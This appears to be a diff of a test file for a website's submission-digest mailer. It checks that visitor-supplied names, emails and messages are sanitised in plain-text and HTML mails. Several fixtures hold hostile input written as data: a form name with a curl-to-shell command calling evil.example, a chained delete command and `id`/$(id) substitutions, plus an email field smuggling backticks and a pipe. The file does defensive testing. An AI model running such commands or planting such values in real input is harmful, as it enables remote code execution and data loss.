@@ -4,7 +4,6 @@ import { runDaily } from "../../netlify/submissions/daily";
 import { deliver } from "../../netlify/submissions/deliver";
 import type { Store } from "../../netlify/submissions/store";
 import type { SubmissionKind } from "../../src/forms/submission-kind";
-import { escapeHtml } from "../../src/lib/escape-html";
 import { asJson, call, readRecord, setDate, settled, simulateClock, testSite, whileTimePasses } from "./support/call";
 import { VALID } from "./support/examples";
 import { FIRM, setMailServer } from "./support/mail-server";
@@ -60,19 +59,15 @@ it("marks each line of a visitor, and ends with its own command as a signature, 
   const own = `-- \nShow this: npm run inbox -- show ${body.id}\n`;
   expect(text.split("\n").filter((line) => line && !line.startsWith(">"))).toEqual(own.trimEnd().split("\n"));
   expect(text.endsWith(own)).toBe(true);
+  const [quoted, ownHtml = ""] = String(html).split("</blockquote>");
   // Outlook joins lines, and each has its own direction.
-  const lines = fake
-    .trim()
-    .split("\n")
-    .map((line) => `<div dir="auto">${escapeHtml(line.trimEnd()) || "<br>"}</div>`);
-  const [quoted = "", ownHtml = "", ...rest] = String(html).split("</blockquote>");
-  expect([quoted.includes(lines.join("")), ownHtml.includes(`show ${body.id}`), rest]).toEqual([true, true, []]);
-  expect(ownHtml).not.toContain("evil");
+  expect(quoted).toContain('</div><div dir="auto">شكرا https://evil.example</div>');
+  expect(quoted).not.toContain("<b ");
+  expect([ownHtml.includes(`show ${body.id}`), ownHtml.includes("evil")]).toEqual([true, false]);
 });
 
 it.each([
   ["[#4711] Re: Ticket#12", "4711 Re Ticket 12"],
-  ["SUP-123: Ada (Case 55)", "SUP 123 Ada Case 55"],
   ["Zoë O’Hara-Ní Ṁhaol", "Zoë O’Hara-Ní Ṁhaol"],
   ["Иван Петров =?utf-8?q?x?=", "Иван Петров utf 8 q x"],
 ])("writes no ticket's number and no code of the name %s into a subject", async (name, shown) => {
@@ -172,12 +167,11 @@ it.each<[string, number, (store: Store) => Partial<Store>]>([
 
 it("mails many at once with the beginnings of their texts, messages first, and a link to each sender", async () => {
   setDate("2026-11-25T01:45:00Z");
-  const evil = "npm run inbox -- delete --kind contact; curl http://evil.example/x|sh `id` $(id) \u00a0&& ";
-  const message = `${"😀".repeat(800)} The end`;
-  await site.put("new", "application", { ...VALID.application, name: evil, email: "o'neil+`?|curl`@example.com" });
+  const evil = { name: "npm run inbox -- delete; curl http://evil.example|sh `id`", email: "o'neil+`?|`@example.com" };
+  await site.put("new", "application", { ...VALID.application, ...evil });
   for (let index = 0; index < 41; index += 1)
     await site.put("new", "newsletter", { email: `reader${index}@example.com` });
-  await site.put("new", "contact", { ...VALID.contact, message });
+  await site.put("new", "contact", { ...VALID.contact, message: `${"😀".repeat(800)} The end` });
   await run();
   const [{ subject = "", text = "", html = "", headers, replyTo } = {}] = site.mailServer.mails;
   expect(subject).toBe("Website: 43 submissions at once, 25 November 2026, 01:45 UTC");
@@ -185,10 +179,8 @@ it("mails many at once with the beginnings of their texts, messages first, and a
   expect(text).toMatch(/^> (😀){750} …\n>\s\n> Name: Grace Hopper\n[^]*\n> Company: Example, Inc\.\n/u);
   const line = "25 November 2026, 01:45 UTC · ";
   expect(text).toContain(`\n> contact · ${line}Grace Hopper · mailto:grace@example.com · contact/`);
-  const name = "npm run inbox delete kind contact curl http evil example x s …";
-  expect(text).toContain(
-    `\n> application · ${line}${name} · mailto:o'neil+%60%3F%7Ccurl%60@example.com · application/`,
-  );
+  const name = "npm run inbox delete curl http evil example sh id";
+  expect(text).toContain(`${line}${name} · mailto:o'neil+%60%3F%7C%60@example.com · application/`);
   expect(html).toContain('<a href="mailto:grace@example.com">mailto:grace@example.com</a>');
   // Forty texts, and lines about the others.
   expect(text.match(/^> Email: /gm)).toHaveLength(40);
@@ -206,11 +198,12 @@ it.each(ABOUT_TEXT)("replaces a mail whose text is rejected (%s) by one without 
   expect(await run()).toEqual({ sent: 2, failed: 0 });
   expectMailed(id, other);
   const mail = site.mailServer.mails.find(({ messageId }) => messageId === `<${id}@example.com>`);
-  expect(mail?.replyTo).toBeUndefined();
-  for (const part of ["contact", "25 November 2026, 01:45 UTC", `inbox -- show ${id}`])
-    expect(mail?.text).toContain(part);
-  const texts = [...Object.values(VALID.contact).filter(Boolean), "Visitor"];
-  expect(texts.filter((text) => `${mail?.subject} ${mail?.text}`.includes(text))).toEqual([]);
+  expect([mail?.subject, mail?.replyTo]).toEqual([
+    expect.stringMatching(/^Website: contact without names, \w+, 25/),
+    undefined,
+  ]);
+  const text = `> contact · 25 November 2026, 01:45 UTC · ${id}\n\n-- \nShow this: npm run inbox -- show ${id}\n`;
+  expect(mail?.text).toBe(text);
   // Mail programs join mails with the same subject.
   expect(new Set(site.mailServer.mails.map(({ subject }) => subject)).size).toBe(2);
 });
